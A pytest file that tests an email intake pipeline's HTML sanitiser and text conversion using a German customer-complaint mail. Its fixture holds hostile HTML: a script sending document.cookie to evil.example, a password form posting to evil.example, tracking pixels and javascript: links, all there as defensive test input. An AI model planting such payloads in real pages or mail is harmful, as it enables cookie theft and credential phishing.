from __future__ import annotations

from email.message import EmailMessage

import pytest

from brandwache.intake.mailhtml import html_to_text, sanitise_html
from brandwache.intake.pipeline import ingest
from brandwache.intake.tests.mails import german_mail

pytestmark = pytest.mark.django_db

HOSTILE = """<html><head><title>Reklamation</title>
<style>body { background: url(https://tracker.example/bg.gif) }</style>
<script>document.location = "https://evil.example/?c=" + document.cookie</script></head>
<body onload="steal()">
<p onclick="steal()" style="color:red">Guten Tag</p>
<p>Meine Bestellung <b>Nr. 4711</b> kam <i>beschädigt</i> an. Fotos:
<a href="https://photos.example/album" target="_blank">Album</a>,
<a href="javascript:alert(document.cookie)">hier klicken</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Beleg</a>.</p>
<img src="https://tracker.example/open.gif?u=petra" width="1" height="1" alt="">
<img src="cid:foto1@example.ch" alt="Foto des Pakets">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"><button>Senden</button></form>
<svg><script>alert(1)</script></svg>
<p>Freundliche Grüsse<br>Petra Muster</p>
</body></html>"""


def html_only_mail(html: str) -> bytes:
    message = EmailMessage()
    message["From"] = "Petra Muster <petra.muster@example.ch>"
    message["Subject"] = "Beschädigte Lieferung"
    message["Message-ID"] = "<html-1@example.ch>"
    message.set_content(html, subtype="html")
    return message.as_bytes()


def test_html_is_stored_without_scripts_styles_handlers_frames_and_forms():
    message = ingest("email", html_only_mail(HOSTILE)).message
    html = message.html.lower()
    for forbidden in ["<script", "<style", "onclick", "onload", "<iframe", "<form", "<input"]:
        assert forbidden not in html
    assert "javascript:" not in html
    assert "data:text/html" not in html
    assert "document.cookie" not in html
    assert "<svg" not in html and "alert(1)" not in html
    assert "<b>Nr. 4711</b>" in message.html


def test_remote_images_are_removed_and_images_inside_the_mail_stay():
    message = ingest("email", html_only_mail(HOSTILE)).message
    assert "tracker.example" not in message.html
    assert '<img src="cid:foto1@example.ch" alt="Foto des Pakets">' in message.html


def test_links_are_kept_with_rel_noopener_noreferrer_nofollow():
    message = ingest("email", html_only_mail(HOSTILE)).message
    assert (
        '<a href="https://photos.example/album" rel="noopener noreferrer nofollow">Album</a>'
        in message.html
    )
    assert "target=" not in message.html


def test_an_html_only_mail_gets_readable_text_with_quote_and_signature_separated():
    html = (
        "<div>Guten Tag<br><br>Die Gutschrift fehlt noch.</div>"
        "<p>Freundliche Grüsse<br>Petra Muster</p>"
        '<div class="gmail_quote"><div>Am Mo., 3. Nov. 2026 um 14:02 Uhr schrieb Kundendienst '
        '&lt;<a href="mailto:service@firma.example">service@firma.example</a>&gt;:<br></div>'
        "<blockquote><p>Sehr geehrte Frau Muster</p><p>Wir prüfen das.</p></blockquote></div>"
    )
    message = ingest("email", html_only_mail(html)).message
    assert message.text == "Guten Tag\n\nDie Gutschrift fehlt noch."
    assert message.signature == "Freundliche Grüsse\nPetra Muster"
    assert message.quoted_text == (
        "Am Mo., 3. Nov. 2026 um 14:02 Uhr schrieb Kundendienst <service@firma.example>:\n\n"
        "> Sehr geehrte Frau Muster\n>\n> Wir prüfen das."
    )


def test_the_text_of_hostile_html_has_the_words_and_none_of_the_code():
    text = html_to_text(HOSTILE)
    assert "Meine Bestellung Nr. 4711 kam beschädigt an." in text
    assert "Album (https://photos.example/album)" in text
    assert "document" not in text and "alert" not in text and "Reklamation" not in text


def test_a_mail_with_text_and_html_keeps_the_text_part_as_text():
    mail = german_mail(body="Text-Version", html="<p>HTML-<b>Version</b><script>x()</script></p>")
    message = ingest("email", mail.as_bytes()).message
    assert message.text == "Text-Version"
    assert message.html == "<p>HTML-<b>Version</b></p>"


def test_lists_tables_and_line_breaks_become_readable_lines():
    text = html_to_text(
        "<p>Bestellt:</p><ul><li>Kaffeemaschine</li><li>Entkalker</li></ul>"
        "<ol><li>angerufen</li><li>geschrieben</li></ol>"
        "<table><tr><td>Betrag</td><td>CHF 49.90</td></tr></table><p>Zeile 1<br>Zeile 2</p>"
    )
    assert text == (
        "Bestellt:\n\n- Kaffeemaschine\n- Entkalker\n\n1. angerufen\n2. geschrieben\n\n"
        "Betrag CHF 49.90\n\nZeile 1\nZeile 2"
    )


def test_sanitising_twice_changes_nothing_more():
    once = sanitise_html(HOSTILE)
    assert sanitise_html(once) == once
